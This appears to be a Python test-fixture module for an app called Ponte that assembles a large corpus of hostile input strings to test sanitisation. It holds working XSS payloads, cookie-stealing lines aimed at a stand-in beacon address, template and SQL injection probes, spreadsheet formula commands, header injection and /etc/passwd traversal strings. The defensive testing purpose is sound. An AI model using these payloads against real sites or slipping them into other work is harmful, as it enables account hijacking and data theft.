"""Hostile strings: what a participant (or a careless copy-paste) might type into Ponte.

Every payload that could run script calls something recognisable, ``alert(1)``, ``confirm``,
``prompt`` or a fetch of ``BEACON`` (a TEST-NET-3 address: never reachable), so a test sees
at once when one ran. ``HOSTILE`` is the corpus (deduplicated, in a stable order);
``fit(text, limit)`` cuts one to a field's limit; ``shown(text)`` is what a screen shows
of what was stored (the server drops control characters and trims).
"""

import re

BEACON = "http://203.0.113.9"  # TEST-NET-3 (RFC 5737): no machine answers there
BEACON_HOST = "203.0.113.9"

# What an injected script would do: a dialog, or a request to the beacon.
JS = [
    "alert(1)",
    f"fetch('{BEACON}/x')",
    "confirm(1)",
    "prompt(1)",
    "alert(document.cookie)",
    "alert`1`",
    f"new Image().src='{BEACON}/i?'+document.cookie",
    f"import('{BEACON}/m.js')",
    f"navigator.sendBeacon('{BEACON}/b')",
    "eval(atob('YWxlcnQoMSk='))",
    "top['al'+'ert'](1)",
    "window.onerror=alert;throw 1",
]

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    f"<ScRiPt>fetch('{BEACON}/x')</sCrIpT>",
    f"<script src={BEACON}/x.js></script>",
    f"<script src=//{BEACON_HOST}/x.js></script>",
    "<script src=data:,alert(1)></script>",
    '<script src="data:text/javascript,alert(1)"></script>',
    "<script/src=data:,alert(1)></script>",
    "<script>alert(1)//",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script\t>confirm(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '<script type="text/javascript">alert(1)</script>',
    f"<script type=module>import('{BEACON}/m.js')</script>",
    "<script>/*</script><!--*/alert(1)//--></script>",
    "</script><script>alert(1)</script>",
    "<script>{onerror=alert}throw 1</script>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    '<svg><script href="data:,alert(1)" /></svg>',
    "<template><script>alert(1)</script></template>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script>window['ale'+'rt'](1)</script>",
    "<script>setTimeout('alert(1)',0)</script>",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "<script>location='javascript:alert(1)'</script>",
    "<script>(new Function('alert(1)'))()</script>",
    "<script>" + "<script>" * 5 + "alert(1)" + "</script>" * 6,
    "<script",
    "<script>",
    "</script>",
]

# (tag with the handler, where {js} goes)
HANDLERS = [
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    "<img/src/onerror={js}>",
    "<IMG SRC=x OnErRoR={js}>",
    "<img src=x:x onerror={js}//",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<body onload={js}>",
    "<body/onpageshow={js}>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<video src=x onerror={js}>",
    "<marquee onstart={js}>hostile</marquee>",
    "<div onmouseover={js}>hover me</div>",
    '<div style="position:fixed;inset:0;z-index:9999" onmouseover={js}>cover</div>',
    "<a onmouseover={js}>link</a>",
    "<iframe onload={js}></iframe>",
    "<object data=x onerror={js}></object>",
    "<style onload={js}></style>",
    "<x contenteditable onblur={js}>lose focus</x>",
    "<div draggable=true ondragstart={js}>drag</div>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributename=x to=1>",
    "<form><button formaction=javascript:{js}>send</button></form>",
    "<isindex type=image src=1 onerror={js}>",
    "<body onresize={js}>",
    "<input onanimationstart={js} style=animation-name:spin>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<img src=x onerror="&#x61;lert(1)">',
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=`x`onerror={js}>",
    "<img src=x onerror\x0b={js}>",
    "<img src=x onerror\x0c={js}>",
    "<img src=x oNeRrOr={js}>",
]

URLS = [
    '<a href="javascript:alert(1)">click</a>',
    "<a href=JaVaScRiPt:alert(1)>click</a>",
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="javascript&colon;alert(1)">click</a>',
    '<a href="javascript://%0aalert(1)">click</a>',
    f"<a href=\"javascript:fetch('{BEACON}/x')\">click</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    f"<a href=//{BEACON_HOST}/phish>log in again</a>",
    f'<a ping="{BEACON}/ping" href="#">ping</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    f"[click me](javascript:fetch('{BEACON}/x'))",
    "![img](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)",
    "[a](vbscript:msgbox(1))",
    f"<{BEACON}/auto-link>",
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    f"{BEACON}/a-plain-link",
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    f'<form><input type=submit formaction="{BEACON}/f" value=go></form>',
    '<iframe src="javascript:alert(1)"></iframe>',
    f"<iframe src={BEACON}/frame></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<embed src="javascript:alert(1)">',
    f"<embed src={BEACON}/x.swf>",
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    f"<object type=text/x-scriptlet data={BEACON}/x.sct></object>",
    f"<link rel=stylesheet href={BEACON}/x.css>",
    f'<link rel="preload" as="script" href="{BEACON}/p.js">',
    f"<link rel=prefetch href={BEACON}/prefetch>",
    f"<link rel=dns-prefetch href=//{BEACON_HOST}>",
    f"<link rel=import href={BEACON}/i.html>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    f'<meta http-equiv="refresh" content="0; url={BEACON}/">',
    '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"<base href={BEACON}/>",
    '<base href="javascript:/a/-alert(1)///////">',
    f"<img src={BEACON}/pixel.png>",
    f'<img srcset="{BEACON}/a.png 1x, {BEACON}/b.png 2x">',
    f"<picture><source srcset={BEACON}/s.png><img></picture>",
    f"<video poster={BEACON}/poster.png></video>",
    f"<input type=image src={BEACON}/i.png>",
    f"<table background={BEACON}/t.png><tr><td>x</td></tr></table>",
    f"<body background={BEACON}/b.png>",
    f"<bgsound src={BEACON}/s.wav>",
    f"<portal src={BEACON}/portal></portal>",
    f"<audio src={BEACON}/a.mp3 autoplay></audio>",
    "file:///etc/passwd",
    '<img src="file:///etc/passwd">',
    "../../../../etc/passwd",
]

SVG_MATHML = [
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">'
    "</iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    f"<svg><image href={BEACON}/i.png /></svg>",
    f"<svg><feImage href={BEACON}/f.png /></svg>",
    f"<svg><style>@import '{BEACON}/s.css';</style></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) />"
    "<text x=20 y=20>Click</text></a></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
    "click</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    f'<?xml-stylesheet href="{BEACON}/x.xsl"?>',
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing><img src=x onerror=alert(1)></listing>",
    "<svg><title><script>alert(1)</script></title></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
]

CSS = [
    f"<style>@import url({BEACON}/x.css);</style>",
    f"<style>@import '{BEACON}/x.css';</style>",
    f"<style>body{{background:url({BEACON}/b.png)}}</style>",
    "<style>*{display:none !important}</style>",
    "<style>body{direction:rtl;transform:rotate(180deg)}</style>",
    f'<div style="background:url({BEACON}/b.png)">styled</div>',
    "<div style=\"background-image:url('javascript:alert(1)')\">styled</div>",
    '<div style="width:expression(alert(1))">IE</div>',
    f'<div style="behavior:url({BEACON}/x.htc)">IE</div>',
    f'<div style="-moz-binding:url({BEACON}/x.xml#xss)">old Firefox</div>',
    f"<style>@font-face{{font-family:x;src:url({BEACON}/f.woff)}}</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">cover</p>',
    "</style><script>alert(1)</script>",
    f"<style>input[value^=a]{{background:url({BEACON}/a)}}</style>",
    f'body{{background:url("{BEACON}/plain.png")}}',
    f"@import url({BEACON}/plain.css);",
    f"<span style=color:red;background:url(//{BEACON_HOST}/x)>red</span>",
    f"<style>li{{list-style:url({BEACON}/li.png)}}</style>",
    "<link rel=stylesheet href=data:,*{x:expression(alert(1))}>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>",
    "<style>:root{--x:url(javascript:alert(1))}</style>",
    f'<p style="content:url({BEACON}/c.png)">x</p>',
]

TEMPLATES = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{ config }}",
    "{{ self.__init__.__globals__ }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{% include '/etc/passwd' %}",
    "${alert(1)}",
    "`${alert(1)}`",
    "[[7*7]]",
    "{7*7}",
    "{{=7*7}}",
    "@(7*7)",
    "*{7*7}",
    "%{7*7}",
    "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}",
    "{php}echo 1;{/php}",
    "%(name)s %s %d %%",
    "{name} {count} {language}",
    "$& $1 $' $` $$",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    '{"__proto__":{"polluted":true}}',
    "{{#each this}}{{this}}{{/each}}",
    "{{ _('Log out') }}",
]

BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    '";alert(1)//',
    '\\";alert(1)//',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "</noscript><script>alert(1)</script>",
    "</xmp><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    '" onmouseover="alert(1)',
    "</option></select><script>alert(1)</script>",
    "\"}]}'); alert(1); //",
    '{"a":"</script><script>alert(1)</script>"}',
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&#0000060script&#0000062alert(1)&#0000060/script&#0000062",
    "&lt;b&gt;not bold&lt;/b&gt; &amp; &quot;quoted&quot; &#39;single&#39; &nbsp;",
    "<!--",
    "<!-- an unterminated comment",
    "<![CDATA[",
    "<b>bold that never closes",
    "<i><b><u>nested</i></b></u>",
    "<div",
    "< > & \" ' / \\ ` = ;",
    "&",
    "&amp;",
    "&#0;",
    "'; DROP TABLE post; --",
    "Robert'); DROP TABLE participant;--",
    "' OR '1'='1",
    '=HYPERLINK("http://203.0.113.9/csv","click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
]

UNICODE = [
    "\u202egnp.exe <script>alert(1)</script>",
    "\u202e<img src=x onerror=alert(1)>\u202c",
    "\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069 bidi controls",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\ufeff<script>alert(1)</script>",
    "java\u200bscript:alert(1)",
    '<a href="java\u200dscript:alert(1)">zwj</a>',
    "Z\u0334\u0321\u031b\u034ea\u0337l\u0338g\u0336o\u0335 \u0310\u0300\u0301\u0302\u0303",
    "a" + "\u0301" * 500,
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "\u0420ay\u0440al login: \u0430lert(1)",
    "\u0430lert(1) <\u0455cript>",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family",
    "\U0001f3f3\ufe0f\u200d\U0001f308 flags: "
    "\U0001f1ee\U0001f1f9 \U0001f1f8\U0001f1f3 \U0001f1e8\U0001f1f3",
    "\U0001f600" * 60,
    "\u00ad soft\u00adhyphen \u2028line\u2029paragraph \u0085next",
    "\u180e\u2060\u2061\u2062\u2063\u2064 invisible",
    "\uffff\ufffe non-characters",
    "\U000e0001\U000e0041\U000e0042 tags",
    "\ufdfd \ufdfa wide ligatures",
    "\u0645\u0631\u062d\u0628\u0627 <script>alert(1)</script> \u05e9\u05dc\u05d5\u05dd",
    "\u4f60\u597d<img src=x onerror=alert(1)>\u4e16\u754c",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u202eRTL\u202c mixed 123",
    "\u00e9\u0301\u0302 combining \u0915\u094d\u0937 \u0e01\u0e34\u0e4a",
    "\u3000\u2003\u2002\u00a0 odd spaces \u200a\u2009",
    "\U0001d54f\U0001d4ae\U0001d4ae math letters "
    "\U0001d41a\U0001d425\U0001d41e\U0001d42b\U0001d42d",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    "\u02bcscript\u02bc \u2018quote\u2019 \u201cdouble\u201d",
]

CONTROL = [
    "\x00<script>alert(1)</script>",
    "null\x00byte in the middle",
    "\x01\x02\x03 control \x1b[31mred\x1b[0m",
    "line one\r\nSet-Cookie: hacked=1\r\n\r\n<script>alert(1)</script>",
    "tab\tseparated\tvalues",
    "del\x7f and backspace\x08\x08",
    "vertical\x0btab and form\x0cfeed",
    "bell\x07 and escape\x1b",
    "multi\nline\n\n\nnote\n<script>alert(1)</script>",
    "   surrounded by spaces   ",
]

LONG = [
    "<script>alert(1)</script>" * 80,
    "A" * 2000,
    "x" * 1999 + "<",
    ("Lorem ipsum dolor sit amet, <b>consectetur</b> adipiscing elit. " * 40)[:2000],
    "<b>" * 500,
    "<div>" * 400,
    "a" * 1000 + "<img src=x onerror=alert(1)>" + "b" * 900,
    f"{BEACON}/" + "a" * 1900,
    "\u0627\u0644\u0643\u0644\u0645\u0629" * 330,
    "\u4e2d" * 2000,
    "supercalifragilisticexpialidocious" * 58,
    "<" * 2000,
    "&" * 2000,
    ("\U0001f44d" + "\u200d") * 600,
]


def _handlers() -> list[str]:
    """Each handler with a different payload, round robin, then every payload in <img onerror>."""
    made = [tag.format(js=JS[n % len(JS)]) for n, tag in enumerate(HANDLERS)]
    made += [f'<img src=x onerror="{js}">' for js in JS]
    made += [f'<svg onload="{js}">' for js in JS]
    return made


def _build() -> list[str]:
    """Every family, in order, without repeats; none longer than a note may be."""
    families = [SCRIPT_TAGS, _handlers(), URLS, SVG_MATHML, CSS, TEMPLATES, BREAKOUTS]
    every = [text for family in [*families, UNICODE, CONTROL, LONG] for text in family]
    return [text[:2000] for text in dict.fromkeys(every)]


HOSTILE: list[str] = _build()

# What the server drops from people's text (sessions.services.clean_text): control
# characters except newline and tab, and lone surrogates.
_CONTROL_CHARS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff]")


def fit(text: str, limit: int) -> str:
    """Cut ``text`` to a field's limit (in characters, as the server counts them)."""
    return text[:limit]


def shown(text: str) -> str:
    """What a screen shows of ``text`` once stored: control characters gone, trimmed."""
    return _CONTROL_CHARS.sub("", text).strip()


assert len(HOSTILE) >= 200, len(HOSTILE)
assert all(shown(fit(text, 60)) for text in HOSTILE), "every string must survive the cleaning"
